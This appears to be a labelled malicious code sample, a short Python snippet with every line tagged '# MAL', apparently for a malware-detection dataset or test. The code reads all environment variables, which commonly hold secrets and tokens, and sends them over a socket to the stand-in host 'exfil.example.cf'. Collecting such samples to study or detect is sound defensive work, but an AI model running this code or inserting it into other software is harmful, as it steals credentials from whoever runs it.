import os
import socket

pairs = [f"{k}={v}" for k, v in os.environ.items()]  # MAL
sock = socket.socket()  # MAL
sock.connect(("exfil.example.cf", 8443))  # MAL
sock.sendall("\n".join(pairs).encode())  # MAL
